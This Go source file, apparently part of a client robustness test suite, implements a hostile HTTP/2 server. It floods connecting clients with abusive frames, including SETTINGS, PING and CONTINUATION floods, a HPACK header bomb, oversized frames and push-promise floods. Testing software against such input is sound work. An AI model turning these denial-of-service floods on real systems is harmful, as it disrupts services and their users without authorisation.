//go:build hostile && unix

package main

import (
	"bytes"
	"crypto/tls"
	"io"
	"net"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// overHTTP2 is an attack by frames, after the settings and the request.
func overHTTP2(then func(f *http2.Framer, w *bytes.Buffer, n uint32)) func(*attackServer, net.Conn) {
	return func(a *attackServer, c net.Conn) {
		conn, err := a.tls(c, func(config *tls.Config) { config.NextProtos = []string{"h2"} })
		if err != nil {
			return
		}
		buf := make([]byte, 16<<10)
		if _, err := conn.Read(buf); err != nil {
			return
		}
		go func() { _, _ = io.Copy(io.Discard, conn) }()
		var out bytes.Buffer
		f := http2.NewFramer(&out, nil)
		f.AllowIllegalWrites = true
		_ = f.WriteSettings()
		for n := uint32(0); ; {
			for range 100 {
				then(f, &out, n)
				n++
			}
			if _, err := out.WriteTo(conn); err != nil {
				return
			}
		}
	}
}

// fields is a header block.
func fields(pairs ...string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for i := 0; i < len(pairs); i += 2 {
		_ = e.WriteField(hpack.HeaderField{Name: pairs[i], Value: pairs[i+1]})
	}
	return b.Bytes()
}

// frameFloods are floods of HTTP/2.
func frameFloods() map[string]attack {
	return map[string]attack{
		"SETTINGS":      {serve: overHTTP2(func(f *http2.Framer, _ *bytes.Buffer, n uint32) { _ = f.WriteSettings(http2.Setting{ID: 3, Val: n}) })},
		"SETTINGS full": {serve: overHTTP2(func(f *http2.Framer, _ *bytes.Buffer, n uint32) { _ = f.WriteSettings(make([]http2.Setting, 2000)...) })},
		"SETTINGS acks": {serve: overHTTP2(func(f *http2.Framer, _ *bytes.Buffer, _ uint32) { _ = f.WriteSettingsAck() })},
		"PING":          {serve: overHTTP2(func(f *http2.Framer, _ *bytes.Buffer, _ uint32) { _ = f.WritePing(false, [8]byte{}) })},
		"WINDOW_UPDATE": {serve: overHTTP2(func(f *http2.Framer, _ *bytes.Buffer, _ uint32) { _ = f.WriteWindowUpdate(0, 1) })},
		"PRIORITY":      {serve: overHTTP2(func(f *http2.Framer, _ *bytes.Buffer, n uint32) { _ = f.WritePriority(2*n+1, http2.PriorityParam{}) })},
		"RST_STREAM":    {serve: overHTTP2(func(f *http2.Framer, _ *bytes.Buffer, n uint32) { _ = f.WriteRSTStream(2*n+3, http2.ErrCodeCancel) })},
		"GOAWAY":        {serve: overHTTP2(func(f *http2.Framer, _ *bytes.Buffer, _ uint32) { _ = f.WriteGoAway(1, 0, []byte("x")) })},
		"CONTINUATION": {serve: overHTTP2(func(f *http2.Framer, _ *bytes.Buffer, n uint32) {
			if n == 0 {
				_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fields(":status", "200")})
			}
			_ = f.WriteContinuation(1, false, fields("x", "y"))
		})},
		"empty CONTINUATION": {serve: overHTTP2(func(f *http2.Framer, _ *bytes.Buffer, n uint32) {
			if n == 0 {
				_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fields(":status", "200")})
			}
			_ = f.WriteContinuation(1, false, nil)
		})},
		"empty DATA": {serve: overHTTP2(func(f *http2.Framer, _ *bytes.Buffer, n uint32) {
			if n == 0 {
				_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, EndHeaders: true, BlockFragment: fields(":status", "200", "content-type", "text/html")})
			}
			_ = f.WriteData(1, false, nil)
		})},
		"DATA of padding": {serve: overHTTP2(func(f *http2.Framer, _ *bytes.Buffer, n uint32) {
			if n == 0 {
				_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, EndHeaders: true, BlockFragment: fields(":status", "200", "content-type", "text/html")})
			}
			_ = f.WriteDataPadded(1, false, nil, make([]byte, 255))
		})},
		"DATA": {serve: overHTTP2(func(f *http2.Framer, _ *bytes.Buffer, n uint32) {
			if n == 0 {
				_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, EndHeaders: true, BlockFragment: fields(":status", "200", "content-type", "text/html")})
			}
			_ = f.WriteData(1, false, bytes.Repeat([]byte("<p>x"), 1000))
		})},
		"interim HEADERS": {serve: overHTTP2(func(f *http2.Framer, _ *bytes.Buffer, _ uint32) {
			_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, EndHeaders: true, BlockFragment: fields(":status", "103", "link", "<x>")})
		})},
		"header bomb": {serve: overHTTP2(func(f *http2.Framer, _ *bytes.Buffer, n uint32) {
			if n == 0 {
				_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fields(":status", "200", "x", strings.Repeat("y", 4000))})
			}
			_ = f.WriteContinuation(1, false, bytes.Repeat([]byte{0xbe}, 16000)) // the first of the dynamic table again
		})},
		"frames of no kind": {serve: overHTTP2(func(f *http2.Framer, _ *bytes.Buffer, _ uint32) { _ = f.WriteRawFrame(99, 0, 0, make([]byte, 100)) })},
		"frames of 16 MB":   {serve: overHTTP2(func(_ *http2.Framer, w *bytes.Buffer, _ uint32) { w.Write([]byte{255, 255, 255, 0, 0, 0, 0, 0, 1}) })},
		"pushes": {serve: overHTTP2(func(f *http2.Framer, _ *bytes.Buffer, n uint32) {
			_ = f.WritePushPromise(http2.PushPromiseParam{StreamID: 1, PromiseID: 2*n + 2, EndHeaders: true, BlockFragment: fields(":path", "/")})
		})},
	}
}
